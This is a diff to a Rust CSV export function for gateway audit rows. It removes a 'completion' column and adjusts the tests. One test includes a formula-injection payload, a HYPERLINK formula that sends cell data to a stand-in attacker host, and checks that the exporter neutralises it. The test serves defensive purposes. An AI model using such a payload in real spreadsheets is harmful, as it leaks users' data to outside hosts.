@@ -164,7 +164,8 @@ pub fn render_json(rows: &[Row]) -> String {
 }
 
 /// Renders rows as CSV (RFC 4180: CRLF line ends, quotes doubled), with a
-/// header row; `decision_id` and `completion` are the last columns. Lists (targets, policies,
+/// header row; `decision_id` is the last column (the columns are those of
+/// trails before completions: `completion` is in the JSON form). Lists (targets, policies,
 /// reasons) are joined with `;`.
 ///
 /// Cells come from outside the gateway (ids, caller names, reasons), so
@@ -175,7 +176,7 @@ pub fn render_json(rows: &[Row]) -> String {
 /// inside it can start a new cell.
 pub fn render_csv(rows: &[Row]) -> String {
     let mut out = String::from(
-        "time,request_id,vendor,caller,targets,decision,mode,effect,policies,reasons,status,latency_ms,vendor_request_id,decision_id,completion\r\n",
+        "time,request_id,vendor,caller,targets,decision,mode,effect,policies,reasons,status,latency_ms,vendor_request_id,decision_id\r\n",
     );
     let list = |items: &[String]| {
         items
@@ -201,7 +202,6 @@ pub fn render_csv(rows: &[Row]) -> String {
             number(row.latency_ms),
             row.vendor_request_id.clone().unwrap_or_default(),
             row.decision_id.clone().unwrap_or_default(),
-            row.completion.clone().unwrap_or_default(),
         ];
         let quoted: Vec<String> = fields.iter().map(|f| csv_field(f)).collect();
         out.push_str(&quoted.join(","));
@@ -335,7 +335,7 @@ mod tests {
         let (header, body) = csv.split_once("\r\n").unwrap();
         assert!(header.starts_with("time,request_id,vendor,caller,targets"));
         assert!(
-            header.ends_with(",vendor_request_id,decision_id,completion"),
+            header.ends_with(",vendor_request_id,decision_id"),
             "{header}"
         );
         assert_eq!(
@@ -344,7 +344,7 @@ mod tests {
              \"Kore::User::u-1;Kore::User::alice@example.com;Kore::User::u-3;Kore::User::u-4\",\
              deny,shadow,forwarded,\"forbid-account-owner;allow-privacy-officer\",\
              \"owner, \"\"primary\"\"\nsee policy\",200,87,ds-77,\
-             019a3b4c-5d6e-7f80-91a2-b3c4d5e6f709,\r\n"
+             019a3b4c-5d6e-7f80-91a2-b3c4d5e6f709\r\n"
         );
     }
 
@@ -384,7 +384,7 @@ mod tests {
         row.policies = vec!["a,=b".into()];
         let csv = render_csv(&[row]);
         let cells = csv_cells(&csv);
-        assert_eq!(cells.len(), 15, "{csv}");
+        assert_eq!(cells.len(), 14, "{csv}");
         assert_eq!(
             cells[3], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
             "{csv}"
